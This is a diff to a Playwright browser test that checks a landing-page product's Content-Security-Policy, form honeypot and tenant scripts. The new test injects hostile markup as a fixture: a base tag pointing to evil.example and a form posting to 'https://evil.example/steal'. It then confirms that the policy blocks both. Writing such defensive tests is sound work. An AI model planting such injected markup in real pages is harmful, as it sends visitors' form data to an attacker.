@@ -47,6 +47,7 @@ describe('a real browser visit', { skip }, () => {
           { purpose: 'learn', buttonTitle: 'Read more', actionType: 'link', url: 'https://example.com/more' },
           { purpose: 'lead', buttonTitle: 'Talk to us', actionType: 'form', url: '' },
         ],
+        scripts: [{ name: 'tag', description: '', content: "<script>document.body.dataset.tenantScript = 'ran'</script>", enabled: true }],
       }),
       201,
     );
@@ -73,6 +74,9 @@ describe('a real browser visit', { skip }, () => {
     assert.equal(await tab.locator('h1').first().textContent(), 'Hello Jane');
     assert.ok((await tab.content()).includes('For Acme Inc'));
     assert.equal(await tab.evaluate('document.cookie'), '', 'no cookies');
+    // Under the document's Content-Security-Policy the tenant's enabled script still runs.
+    assert.match(String(response?.headers()['content-security-policy']), /form-action 'self'/);
+    assert.equal(await tab.evaluate('document.body.dataset.tenantScript'), 'ran');
 
     // A visit a person makes: time on the page, scrolling to the bottom, a few clicks.
     await tab.waitForTimeout(1500);
@@ -81,7 +85,18 @@ describe('a real browser visit', { skip }, () => {
     await tab.waitForTimeout(500);
     for (let i = 0; i < 3; i++) await tab.locator('h1').first().click();
 
-    // The lead form, without any help from JavaScript of ours.
+    // The lead form, without any help from JavaScript of ours. Its honeypot is off-screen, out of
+    // reach, and left empty by a person.
+    const trap = tab.locator('input[name="website"]');
+    const box = await trap.boundingBox();
+    assert.ok(box && box.x + box.width < 0, `the honeypot is off-screen: ${JSON.stringify(box)}`);
+    await tab.locator('input[name="name"]').focus();
+    const reached: string[] = [];
+    for (let i = 0; i < 3; i++) {
+      await tab.keyboard.press('Tab');
+      reached.push(String(await tab.evaluate("document.activeElement.getAttribute('name') || document.activeElement.tagName")));
+    }
+    assert.deepEqual(reached, ['email', 'phone', 'BUTTON'], 'tabbing goes past the honeypot');
     await tab.fill('input[name="name"]', 'Jane Doe');
     await tab.fill('input[name="email"]', 'jane.form@acme.example');
     await tab.fill('input[name="phone"]', '+14155550123');
@@ -118,5 +133,80 @@ describe('a real browser visit', { skip }, () => {
     const logs = ok(await t.req('GET', `/v0/persons/${person.personId}/logs?source=pages`)).items as Json[];
     assert.equal(logs.length, 1);
     assert.equal(logs[0].type, 'form-submitted');
+  });
+
+  test("each rule of the document's CSP holds in Chromium, and the tenant's scripts keep working", { timeout: 90_000 }, async () => {
+    const watch =
+      '<script>window.violations = []; document.addEventListener("securitypolicyviolation", (e) => window.violations.push(e.effectiveDirective));</script>';
+    const hostile =
+      '<base href="https://evil.example/"><object data="/_pam/v.js" type="text/plain" width="1" height="1"></object>' +
+      '<form id="away" action="https://evil.example/steal" method="post"><input name="x" value="1"></form>';
+    const tenant =
+      '<script>document.body.dataset.inline = "ran"</script><button id="tenant-button" onclick="this.dataset.clicked = \'yes\'">Tenant</button>';
+    const page = ok(
+      await t.req('POST', '/v0/pages', {
+        name: 'Policy',
+        title: 'Policy page',
+        pageContext: 'csp',
+        pageType: 'inbound',
+        status: 'published',
+        content: { headline: 'Framed or not', subheadline: '', sections: [] },
+        scripts: [
+          { name: 'watch', description: '', content: watch, enabled: true },
+          { name: 'hostile', description: '', content: hostile, enabled: true },
+          { name: 'tenant', description: '', content: tenant, enabled: true },
+        ],
+      }),
+      201,
+    );
+    const audience = ok(await t.req('POST', `/v0/pages/${page.pageId}/audiences`, {}), 201);
+    ok(
+      await t.req('POST', '/v0/page_links', { path: '/policy', target: { targetType: 'audience', audienceId: audience.audienceId } }),
+      201,
+    );
+
+    const context = await browser.newContext({ userAgent: USER_AGENT });
+    const tab = await context.newPage();
+    const response = await tab.goto(`${origin}/policy`);
+    assert.equal(response?.status(), 200);
+    const violations = async () => (await tab.evaluate('window.violations')) as string[];
+    await until('the object-src report', async () => ((await violations()).includes('object-src') ? true : undefined));
+
+    // The tenant's inline script and inline handler run.
+    assert.equal(await tab.evaluate('document.body.dataset.inline'), 'ran');
+    await tab.click('#tenant-button');
+    assert.equal(await tab.evaluate("document.getElementById('tenant-button').dataset.clicked"), 'yes');
+    // base-uri 'none': the injected <base> moves no relative URL.
+    assert.ok((await violations()).includes('base-uri'));
+    assert.equal(await tab.evaluate('document.baseURI'), `${origin}/policy`);
+    // object-src 'none': the <object> loaded nothing (reported above).
+    // form-action 'self': a form to another origin is not sent; the visitor stays.
+    await tab.evaluate("document.getElementById('away').requestSubmit()");
+    await until('the form-action report', async () => ((await violations()).includes('form-action') ? true : undefined));
+    assert.equal(tab.url(), `${origin}/policy`);
+
+    // frame-ancestors 'self': framed by the page's own origin it shows; by another, it does not.
+    const framer = (src: string) => `<!doctype html><title>framer</title><iframe name="inner" src="${src}"></iframe>`;
+    const port = new URL(origin).port;
+    const foreign = `http://elsewhere.localhost:${port}/framer`;
+    const own = `${origin}/framer-test`;
+    for (const url of [foreign, own]) {
+      await context.route(url, (route) => route.fulfill({ status: 200, contentType: 'text/html', body: framer(`${origin}/policy`) }));
+    }
+    const headlineIn = async (url: string) => {
+      const framing = await context.newPage();
+      await framing.goto(url);
+      await framing.waitForTimeout(1000);
+      const inner = framing.frames().find((f) => f !== framing.mainFrame());
+      const text = inner
+        ? await inner.evaluate('document.querySelector("h1") && document.querySelector("h1").textContent').catch(() => null)
+        : null;
+      await framing.close();
+      return text;
+    };
+    assert.equal(await headlineIn(own), 'Framed or not');
+    // Chromium shows its own error page in the frame instead ("… is blocked").
+    assert.notEqual(await headlineIn(foreign), 'Framed or not');
+    await context.close();
   });
 });
